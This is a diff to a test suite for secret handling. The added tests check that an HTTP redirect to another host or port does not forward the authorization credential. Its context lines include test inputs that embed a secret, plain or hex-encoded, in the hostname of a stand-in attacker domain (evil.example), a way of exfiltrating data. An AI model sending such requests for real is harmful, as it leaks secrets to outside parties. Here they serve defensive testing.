@@ -386,6 +386,24 @@ describe("secrets", () => {
     }));
 
   for (
+    const [what, hosts, elsewhere] of [
+      ["host that the secret does not name", ["127.0.0.1", "localhost"], "localhost"],
+      ["port", ["127.0.0.1"], "127.0.0.1"],
+    ] as const
+  ) {
+    test(`a redirect to another ${what} takes no credential along`, () =>
+      withSite(echo, (other) => {
+        const location = other.origin.replace("127.0.0.1", elsewhere);
+        const { http_request, ...config } = shop({ secret: "shop", hosts });
+        return withRequests(() => ({ status: 307, headers: { location } }), async ({ site, send }) => {
+          await send(`GET ${site.origin}/`);
+          const sent = [...site.seen, ...other.seen].map(({ headers }) => headers.authorization);
+          assert.deepEqual(sent, [SECRET, undefined]);
+        }, { config: { ...config, http_request }, environment: ENVIRONMENT });
+      }));
+  }
+
+  for (
     const [what, input] of [
       ["host", `GET https://${SECRET}.evil.example/`],
       ["host, in hexadecimal", `GET https://${Buffer.from(SECRET).toString("hex")}.evil.example/`],
